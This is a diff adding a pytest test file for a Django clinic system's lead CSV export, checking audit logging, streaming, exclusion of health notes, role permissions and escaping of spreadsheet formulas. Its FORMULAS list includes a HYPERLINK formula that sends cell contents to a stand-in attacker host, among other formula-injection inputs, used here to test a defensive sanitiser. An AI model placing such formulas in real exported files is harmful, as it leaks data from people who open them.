@@ -1,0 +1,201 @@
+import csv
+import tracemalloc
+from collections.abc import Iterable
+from datetime import UTC, datetime
+from io import StringIO
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import Group
+from django.db import connection
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+
+from clinic.models import AuditEvent
+from desk import csv_cells, export_list
+from enquiries.actions import add_note, move_lead
+from enquiries.models import Lead
+from enquiries.signals import leads_exported
+from foundation.models import ClinicProfile
+from mailings.actions import suppress
+from mailings.models import Suppression
+from tests.conftest import AWKWARD_NAME
+
+URL = "/admin/enquiries/lead/export/"
+PURPOSE = {"purpose": "Letters of thanks after the congress"}
+
+
+def make(**fields: Any) -> Lead:
+    return Lead.objects.create(**{"next_action": "Call", "next_action_on": "2030-01-01", "phone": "1", **fields})
+
+
+def taken(client: Client, query: str = "", **fields: str) -> list[dict[str, str]]:
+    answer = client.post(f"{URL}{query}", {**PURPOSE, **fields})
+    assert answer.status_code == 200
+    text = b"".join(answer.streaming_content).decode()  # type: ignore[arg-type]
+    assert text.startswith("\ufeff")
+    return list(csv.DictReader(StringIO(text[1:])))
+
+
+def records() -> list[Any]:
+    return list(AuditEvent.objects.filter(kind="list_exported").order_by("pk").values_list("by__name", "data"))
+
+
+def test_the_list_leaves_as_it_is_filtered_searched_and_ordered(desk: Client) -> None:
+    for number in range(3):
+        make(name=f"Zoë {number}", country="IE", created_at=datetime(2026, 1, 1 + number, tzinfo=UTC))
+    make(name="Somebody else", country="IE")
+    make(name="Zoë Closed", stage="new")
+    query = "?owner=nobody&q=zoe&stage=open"
+    assert f"{URL}{query}" in desk.get(f"/admin/enquiries/lead/{query}").text.replace("&amp;", "&")
+    names = [row["Name"] for row in taken(desk, "?q=zoe+ireland&o=-7")]
+    assert names == ["Zoë 2", "Zoë 1", "Zoë 0"]
+    assert [row["Name"] for row in taken(desk, "?q=zoe+ireland&o=7")] == names[::-1]
+
+
+def test_nothing_leaves_without_a_purpose(desk: Client) -> None:
+    make(name=AWKWARD_NAME)
+    page = desk.get(URL)
+    assert "What leaves the house" in page.text
+    assert "No health text" in page.text
+    for purpose in ("", "why not"):
+        assert desk.post(URL, {"purpose": purpose}).status_code == 422
+    assert records() == []
+
+
+def test_who_exports_what_and_what_for_is_on_record_without_what_was_searched(desk: Client) -> None:
+    make(name=AWKWARD_NAME)
+    taken(desk, "?q=zoe&stage=open&owner=Zoe")
+    filters = {"q": "typed", "stage": "open", "owner": "typed"}
+    expected = {"purpose": PURPOSE["purpose"], "leads": 0, "filters": filters}
+    assert records() == [("Sam Staff", expected)]
+
+
+def test_what_cannot_be_put_on_record_is_not_exported(desk: Client, monkeypatch: pytest.MonkeyPatch) -> None:
+    def full(**kwargs: Any) -> None:
+        raise OSError("disk full")
+
+    leads_exported.connect(full)
+    try:
+        with CaptureQueriesContext(connection) as queries, pytest.raises(OSError, match="disk full"):
+            desk.post(URL, PURPOSE)
+    finally:
+        leads_exported.disconnect(full)
+    assert records() == []
+    assert queries
+
+
+def test_the_record_is_there_before_the_first_byte_and_a_stopped_download_holds_nothing(
+    desk: Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export_list, "CHUNK", 2)
+    for number in range(7):
+        make(name=f"Person {number}")
+    answer: Any = desk.post(URL, PURPOSE)
+    assert len(records()) == 1
+    pieces = iter(answer.streaming_content)
+    assert b"Number" in next(pieces)
+    assert b"Person 6" in next(pieces)
+    answer.close()
+    with pytest.raises(StopIteration):
+        next(pieces)
+
+
+def test_no_row_is_lost_or_doubled_between_two_chunks(desk: Client, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export_list, "CHUNK", 3)
+    same = datetime(2026, 1, 1, tzinfo=UTC)
+    leads = [make(name=f"Person {number}", created_at=same) for number in range(10)]
+    for query in ("", "?due=all", "?o=7"):
+        found = [int(row["Number"]) for row in taken(desk, query)]
+        assert sorted(found) == [lead.pk for lead in leads]
+
+
+def held_at_most(pieces: Iterable[Any]) -> int:
+    """In bytes, at the worst moment of going through them."""
+    tracemalloc.start()
+    for _piece in pieces:
+        pass
+    _now, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    return peak
+
+
+def test_a_long_list_is_never_held_whole(desk: Client, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export_list, "CHUNK", 100)
+    person = {"phone": "1", "next_action": "x", "next_action_on": "2030-01-01"}
+    Lead.objects.bulk_create(Lead(name=f"Person {number}", **person) for number in range(2000))
+    answer: Any = desk.post(URL, PURPOSE)
+    assert held_at_most(answer.streaming_content) < held_at_most(Lead.objects.all()) / 2
+
+
+def test_nothing_about_health_leaves(desk: Client, staff: Any) -> None:
+    lead = make(name=AWKWARD_NAME, next_action="Ask about the canary tumour")
+    add_note(lead=lead, text="canary note", by=staff)
+    move_lead(lead=lead, stage="lost", reason="canary too ill", by=staff)
+    (row,) = taken(desk)
+    assert "canary" not in str(row)
+    assert row["Name"] == AWKWARD_NAME
+    assert row["Next action on"] == ""
+
+
+def test_times_are_those_of_the_clinic_and_a_country_has_name_and_code(desk: Client) -> None:
+    ClinicProfile.objects.update(time_zone="America/New_York")
+    make(name="A", country="IE", created_at=datetime(2026, 7, 1, 2, tzinfo=UTC), email="a@example.com")
+    make(name="B", created_at=datetime(2025, 7, 1, 2, tzinfo=UTC), email="b@example.com")
+    suppress(address="b@example.com", reason=Suppression.Reason.COMPLAINT)
+    first, second = taken(desk)
+    assert (first["Since"], first["Next action on"]) == ("2026-06-30T22:00:00-04:00", "2030-01-01")
+    assert (first["Country code"], first["Country"], first["May be mailed"]) == ("IE", "Ireland", "yes")
+    assert (second["Country"], second["May be mailed"]) == ("", "no")
+
+
+def test_the_file_is_named_for_the_day_and_kept_by_nobody(desk: Client) -> None:
+    answer = desk.post(URL, PURPOSE)
+    assert answer["Content-Disposition"].startswith('attachment; filename="leads-20')
+    assert "no-store" in answer["Cache-Control"]
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
+    '"=1+1', "'=1+1", "\u200b=1+1", "\ufeff=1+1", "\xa0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1",
+    "+49 30 1234",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_what_a_spreadsheet_would_work_out_begins_with_an_apostrophe(desk: Client, formula: str) -> None:
+    make(name=formula, phone="+49 30 901820")
+    (row,) = taken(desk)
+    assert row["Name"][0] == "'"
+    assert row["Telephone"] == "'+49 30 901820"
+    assert csv_cells.unshielded(csv_cells.safe_cell(formula.strip())) == formula.strip()
+
+
+@pytest.mark.parametrize("name", [AWKWARD_NAME, "Anne-Marie", "a@b", "1 = 2", "", "O'Neill", "'s-Hertogenbosch"])
+def test_other_words_stay_as_they_are(name: str) -> None:
+    assert csv_cells.safe_cell(name) == csv_cells.unshielded(name) == name
+
+
+def test_a_formula_behind_a_semicolon_or_a_line_break_is_no_cell_of_its_own(desk: Client) -> None:
+    make(name="Zoë;=1+1\n=2+2\nEnd")
+    (row,) = taken(desk)
+    assert row["Name"] == "Zoë;'=1+1\n'=2+2\nEnd"
+
+
+@pytest.mark.parametrize(
+    ("role", "status"), [("manager", 200), ("coordinator", 403), ("auditor", 403), ("editor", 403)]
+)
+def test_only_managers_may_export(first_content: None, django_user_model: Any, role: str, status: int) -> None:
+    user = django_user_model.objects.create_user(f"{role}@clinic.example")
+    user.groups.set(Group.objects.filter(name=role))
+    client = Client()
+    client.force_login(user)
+    assert client.get(URL).status_code == client.post(URL, PURPOSE).status_code == status
+    if role != "editor":
+        assert (URL in client.get("/admin/enquiries/lead/").text) == (status == 200)
+
+
+def test_a_filter_that_there_is_not_leads_back_to_the_list(desk: Client) -> None:
+    assert desk.post(f"{URL}?nonsense=1", PURPOSE).status_code == 302
+    assert records() == []
